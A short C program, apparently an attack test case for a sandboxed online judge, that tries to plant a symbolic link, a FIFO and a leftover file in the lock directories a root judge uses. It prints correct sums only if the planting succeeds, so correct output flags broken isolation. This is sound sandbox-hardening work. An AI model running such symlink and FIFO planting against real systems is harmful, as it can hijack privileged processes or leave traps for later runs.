// attack: plant a symbolic link and a FIFO where a root judge keeps (or
// kept) its user-id lock files, and leave a file behind for later runs.
// Succeeding at any is a channel between runs or a trap for a later judge:
// it then prints the right sums.
// setup: plain
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    int planted = 0;
    const char *dirs[] = {"/run/lock", "/var/lock", "/run/judge"};
    for (int i = 0; i < 3; i++) {
        char path[256];
        snprintf(path, sizeof path, "%s/judge-uids-61000-7.lock", dirs[i]);
        if (symlink("/etc/passwd-judge-attack", path) == 0) planted = 1;
        snprintf(path, sizeof path, "%s/uids-61000-7.lock", dirs[i]);
        if (mkfifo(path, 0666) == 0) planted = 1;
        snprintf(path, sizeof path, "%s/left-behind", dirs[i]);
        FILE *f = fopen(path, "w");
        if (f) { planted = 1; fclose(f); }
    }
    int n, a, b;
    if (scanf("%d", &n) != 1) return 1;
    for (int i = 0; i < n; i++)
        if (scanf("%d %d", &a, &b) == 2) printf("%d\n", planted ? a + b : 0);
    return 0;
}
